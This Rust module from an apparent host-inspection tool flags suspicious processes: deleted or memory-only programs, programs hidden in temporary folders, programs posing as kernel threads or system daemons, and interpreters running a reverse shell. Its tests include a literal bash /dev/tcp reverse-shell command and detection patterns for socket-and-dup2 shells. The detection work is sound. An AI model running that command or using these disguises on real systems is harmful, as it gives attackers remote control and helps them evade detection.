//! Running processes: a program whose file is gone, one that claims to be another, one that runs from a hiding place.
use super::{
    command::{self, Oddity},
    name::is_kernel_name,
    odd,
    place::{Place, place},
    quoted,
};
use assize_domain::{
    text::{DevicePath, visible},
    verdict::Finding,
};

/// What is known about a running process whose paths mean what they say.
#[derive(Clone, Copy, Debug)]
pub struct Running<'a> {
    /// The program file the kernel runs.
    pub exe: &'a DevicePath,
    pub deleted: bool,
    /// It never had a file: it was written into memory and run from there.
    pub memory_only: bool,
    /// Another file stands at its path again.
    pub replaced: bool,
    /// The package that owns the path.
    pub package: Option<&'a str>,
    pub arguments: &'a [String],
    /// Where the first argument leads when it is a full path: the file behind all links. None when nothing stands there.
    pub claims: Option<&'a DevicePath>,
    /// The system has a program of the first argument's name, at this place.
    pub namesake: Option<&'a DevicePath>,
    pub script: Option<&'a DevicePath>,
    /// A shell, a script language, or a program that is many tools in one: it is called what it is told.
    pub interpreter: bool,
    /// It runs out of an application image that a person mounted.
    pub application_image: bool,
}

/// Programs that copy themselves into memory before they start, to be safe from what they start.
const COPIES_OF_THEMSELVES: [&str; 5] = ["runc_cloned:", "crun", "lxc-", "youki", "systemd-executor"];

/// Folders of the system's own programs.
const SYSTEM: [&str; 5] = ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/"];

/// Shells, script languages, and programs that are many tools in one.
const INTERPRETERS: [&str; 23] = [
    "sh",
    "bash",
    "rbash",
    "dash",
    "ash",
    "zsh",
    "ksh",
    "mksh",
    "fish",
    "csh",
    "tcsh",
    "python",
    "pypy",
    "perl",
    "ruby",
    "php",
    "node",
    "nodejs",
    "lua",
    "java",
    "busybox",
    "toybox",
    "coreutils",
];

/// By the name of its image, whatever version stands behind it.
pub fn is_interpreter(name: &str) -> bool {
    INTERPRETERS.iter().any(|i| {
        let version = name.strip_prefix(i);
        version.is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-')))
    })
}

/// Command lines longer than this are texts that people work on, not commands.
const LONGEST_COMMAND: usize = 1000;

pub fn findings(about: &Running<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    findings.extend(gone(about));
    findings.extend(hiding(about));
    findings.extend(disguised(about));
    findings.extend(serving(about));
    findings
}

fn gone(about: &Running<'_>) -> Option<Finding> {
    if about.memory_only {
        let name = about.exe.as_str().trim_start_matches("/memfd:").trim_start_matches("memfd:");
        return (!COPIES_OF_THEMSELVES.iter().any(|n| name.starts_with(n)))
            .then(|| odd("runs-from-memory", "It runs from memory only: its program never lay on the disk.".into()));
    }
    if !about.deleted {
        return None;
    }
    // After an upgrade the new program stands where the old one was.
    let upgraded = about.replaced && (about.package.is_some() || place(about.exe) == Place::Ordinary);
    (!upgraded).then(|| {
        let text = format!("Its program file {} was removed while it runs.", visible(about.exe.as_str()));
        odd("program-file-removed", text)
    })
}

fn hiding(about: &Running<'_>) -> Option<Finding> {
    if about.application_image || (about.package.is_some() && about.script.is_none()) {
        return None;
    }
    let (what, path) = match about.script {
        Some(script) => ("script", script),
        None if about.interpreter => return None,
        None => ("program", about.exe),
    };
    let shown = visible(path.as_str());
    match place(path) {
        Place::HiddenTemp => {
            Some(odd("runs-hidden-in-temp-folder", format!("Its {what} is hidden in a temporary folder: {shown}.")))
        }
        Place::Hidden => Some(odd("runs-from-hidden-folder", format!("Its {what} lies in a hidden place: {shown}."))),
        Place::Temp | Place::HomeTool | Place::Ordinary => None,
    }
}

/// Many honest services rewrite their first argument into a title ("nginx: worker process"), and links and wrappers give
/// programs other names. What is left: an unowned program that says it is a certain other one.
fn disguised(about: &Running<'_>) -> Option<Finding> {
    let first = about.arguments.first()?.as_str();
    if about.package.is_some() || about.interpreter || about.application_image {
        return None;
    }
    let exe = visible(about.exe.as_str());
    if first.starts_with('[') && is_kernel_name(first) {
        let text =
            format!("It calls itself “{}” like a part of the kernel, but it is the program {exe}.", visible(first));
        return Some(odd("claims-to-be-kernel", text));
    }
    // A bare name, or a path where nothing stands, proves little: only when the program itself lies where none belongs.
    let odd_place = matches!(place(about.exe), Place::Temp | Place::HiddenTemp | Place::Hidden);
    let claimed = if first.starts_with('/') {
        let of_system = SYSTEM.iter().any(|folder| first.starts_with(folder)) && !first.starts_with("/usr/local/");
        match about.claims {
            Some(claimed) => claimed.as_str().to_owned().into_boxed_str(),
            None if odd_place && of_system => first.into(),
            None => return None,
        }
    } else {
        about
            .namesake
            .filter(|n| odd_place && first == n.file_name() && first != about.exe.file_name())?
            .as_str()
            .into()
    };
    if *claimed == *about.exe.as_str() || first.starts_with("/proc/") {
        return None;
    }
    let text = format!("It calls itself “{}”, but it is the program {exe}.", visible(&claimed));
    Some(odd("claims-to-be-another", text))
}

/// A shell for another computer in its own command line, as text given to a shell or to a language.
fn serving(about: &Running<'_>) -> Option<Finding> {
    let length: usize = about.arguments.iter().map(String::len).sum();
    if !about.interpreter || length > LONGEST_COMMAND {
        return None;
    }
    let text = about.arguments.iter().skip(1).find(|a| !a.starts_with('-'))?;
    let flagged = about.arguments.iter().any(|a| a.starts_with('-') && (a.ends_with('c') || a.ends_with('e')));
    let found = flagged && (command::in_command(text).contains(&Oddity::ReverseShell) || language_serves(text));
    found.then(|| {
        let does = Oddity::ReverseShell.does();
        odd(Oddity::ReverseShell.rule(), format!("It {does}: “{}”.", quoted(text)))
    })
}

fn language_serves(text: &str) -> bool {
    text.contains("socket") && text.contains("dup2") && (text.contains("/bin/sh") || text.contains("/bin/bash"))
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Case {
        exe: &'static str,
        arguments: &'static [&'static str],
        change: fn(&mut Running<'_>),
        claims: Option<&'static str>,
        namesake: Option<&'static str>,
        script: Option<&'static str>,
    }

    const PLAIN: Case =
        Case { exe: "/opt/a/b", arguments: &["/opt/a/b"], change: |_| {}, claims: None, namesake: None, script: None };

    fn rules(case: Case) -> Vec<String> {
        let exe = DevicePath::from(case.exe);
        let arguments: Vec<String> = case.arguments.iter().map(|a| (*a).to_owned()).collect();
        let [claims, namesake, script] = [case.claims, case.namesake, case.script].map(|p| p.map(DevicePath::from));
        let mut about = Running {
            exe: &exe,
            deleted: false,
            memory_only: false,
            replaced: false,
            package: None,
            arguments: &arguments,
            claims: claims.as_ref(),
            namesake: namesake.as_ref(),
            script: script.as_ref(),
            interpreter: false,
            application_image: false,
        };
        (case.change)(&mut about);
        findings(&about).into_iter().filter_map(|f| f.rule).collect()
    }

    #[test]
    fn a_program_whose_file_is_gone_is_odd_unless_it_was_upgraded() {
        assert_eq!(rules(Case { change: |r| r.deleted = true, ..PLAIN }), ["program-file-removed"]);
        let upgraded = |r: &mut Running<'_>| (r.deleted, r.replaced) = (true, true);
        assert!(rules(Case { change: upgraded, ..PLAIN }).is_empty());
        assert_eq!(
            rules(Case { exe: "/tmp/b", arguments: &["b"], change: upgraded, ..PLAIN }),
            ["program-file-removed"]
        );
        let packaged = |r: &mut Running<'_>| (r.deleted, r.replaced, r.package) = (true, true, Some("b"));
        assert!(rules(Case { change: packaged, ..PLAIN }).is_empty());
    }

    #[test]
    fn a_program_that_only_lives_in_memory_is_odd() {
        let memory = |r: &mut Running<'_>| (r.deleted, r.memory_only) = (true, true);
        assert_eq!(rules(Case { exe: "/memfd:x", change: memory, ..PLAIN }), ["runs-from-memory"]);
        let runc = "/memfd:runc_cloned:/proc/self/exe";
        assert!(rules(Case { exe: runc, arguments: &["runc", "init"], change: memory, ..PLAIN }).is_empty());
    }

    #[test]
    fn a_claim_to_be_another_program_is_odd_only_when_it_is_false() {
        let logind = Some("/usr/lib/systemd/systemd-logind");
        let claim = Case { exe: "/tmp/x", arguments: &["/lib/systemd/systemd-logind", "900"], claims: logind, ..PLAIN };
        assert_eq!(rules(claim), ["claims-to-be-another"]);
        let bare = Case { exe: "/dev/shm/x", arguments: &["sshd"], namesake: Some("/usr/sbin/sshd"), ..PLAIN };
        assert_eq!(rules(bare), ["claims-to-be-another"]);
        let thread = Case { exe: "/opt/a/b", arguments: &["[kworker/0:1]"], ..PLAIN };
        assert_eq!(rules(thread), ["claims-to-be-kernel"]);
        // A link leads to the program; a title is a title; a package's program may call itself what it likes.
        assert!(rules(Case { arguments: &["/opt/bin/b"], claims: Some("/opt/a/b"), ..PLAIN }).is_empty());
        assert!(rules(Case { arguments: &["b: worker process"], ..PLAIN }).is_empty());
        assert!(rules(Case { arguments: &["/usr/bin/gone"], ..PLAIN }).is_empty());
        let gone = Case { exe: "/tmp/x", arguments: &["/usr/sbin/gone"], ..PLAIN };
        assert_eq!(rules(gone), ["claims-to-be-another"], "in a temporary folder even that is odd");
        let packaged = |r: &mut Running<'_>| r.package = Some("b");
        assert!(rules(Case { arguments: &["/sbin/init"], claims: logind, change: packaged, ..PLAIN }).is_empty());
        assert!(rules(Case { arguments: &["sshd"], namesake: Some("/usr/sbin/sshd"), ..PLAIN }).is_empty());
    }

    #[test]
    fn a_program_hidden_in_a_temporary_folder_is_odd_but_a_mounted_application_is_not() {
        let hidden = || Case { exe: "/tmp/.d/agentd", arguments: &["agentd"], ..PLAIN };
        assert_eq!(rules(hidden()), ["runs-hidden-in-temp-folder"]);
        assert!(rules(Case { change: |r| r.application_image = true, ..hidden() }).is_empty());
        assert!(
            rules(Case { exe: "/tmp/build/prog", arguments: &["./prog"], ..PLAIN }).is_empty(),
            "people build there"
        );
    }

    #[test]
    fn an_interpreter_is_judged_by_its_script() {
        let shell = |r: &mut Running<'_>| (r.package, r.interpreter) = (Some("dash"), true);
        let with = |script| Case { exe: "/usr/bin/dash", arguments: &["-sh"], change: shell, script, ..PLAIN };
        assert!(rules(with(None)).is_empty(), "a person's shell");
        assert!(rules(with(Some("/srv/backup.sh"))).is_empty());
        assert_eq!(rules(with(Some("/dev/shm/.a/u.sh"))), ["runs-hidden-in-temp-folder"]);
    }

    #[test]
    fn a_shell_for_another_computer_is_seen_in_the_command_line() {
        let shell = |r: &mut Running<'_>| (r.package, r.interpreter) = (Some("bash"), true);
        let with = |arguments| Case { exe: "/usr/bin/bash", arguments, change: shell, ..PLAIN };
        assert_eq!(
            rules(with(&["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"])),
            ["shell-for-another-computer"]
        );
        assert!(rules(with(&["bash", "-c", "grep -r '/dev/tcp/' /etc"])).is_empty());
    }
}
